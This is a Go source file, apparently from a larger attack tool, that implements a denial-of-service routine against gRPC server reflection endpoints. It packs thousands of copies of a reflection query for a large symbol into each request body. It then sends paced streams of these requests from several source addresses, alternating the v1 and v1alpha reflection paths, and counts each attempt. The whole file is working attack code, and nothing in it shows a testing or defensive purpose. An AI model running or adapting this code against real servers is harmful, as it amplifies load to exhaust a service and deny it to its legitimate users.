package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"net/http"
	"sync/atomic"
	"time"
)

const (
	reflectionAddresses = 8
	streamsPerSecond    = 40
	questions           = 2300 // as many as fit into what one call may send
)

// askReflection sends streams of the same question, twenty bytes each, and reads the answers.
func askReflection(ctx context.Context, a *attacker) error {
	const symbol = "buf.validate.field" // in the largest file of the program
	question := append([]byte{4<<3 | 2, byte(len(symbol))}, symbol...)
	var body bytes.Buffer
	for range questions {
		body.WriteByte(0)
		_ = binary.Write(&body, binary.BigEndian, uint32(len(question)))
		body.Write(question)
	}
	pace := newPacer(ctx, streamsPerSecond)
	go func() {
		if wait(ctx, 500*time.Millisecond) {
			a.ready()
		}
	}()
	var turn atomic.Int64
	return spread(ctx, reflectionAddresses*4, func(i int) {
		client := a.client(i%reflectionAddresses, true)
		for pace.next() {
			path := "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
			if turn.Add(1)%2 == 0 {
				path = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
			}
			a.call(ctx, client, http.MethodPost, path, body.Bytes(), "Content-Type", "application/grpc", "Te", "trailers")
		}
	})
}

// client returns a client of HTTP/1.1 or HTTP/2 that comes from an address and keeps its connections.
func (a *attacker) client(from int, http2 bool) *http.Client {
	protocols := new(http.Protocols)
	protocols.SetHTTP1(!http2)
	protocols.SetUnencryptedHTTP2(http2)
	return &http.Client{Transport: &http.Transport{Protocols: protocols, DisableCompression: true, MaxIdleConnsPerHost: 16,
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) { return a.dial(ctx, from) }}}
}

// call makes one call and reads its answer, whatever it is.
func (a *attacker) call(ctx context.Context, client *http.Client, method, path string, body []byte, headers ...string) {
	req, err := http.NewRequestWithContext(ctx, method, "http://"+a.Server+path, bytes.NewReader(body))
	if err != nil {
		return
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	a.toll.tries.Add(1)
	res, err := client.Do(req)
	if err != nil {
		return
	}
	_, _ = io.Copy(io.Discard, res.Body)
	_ = res.Body.Close()
}
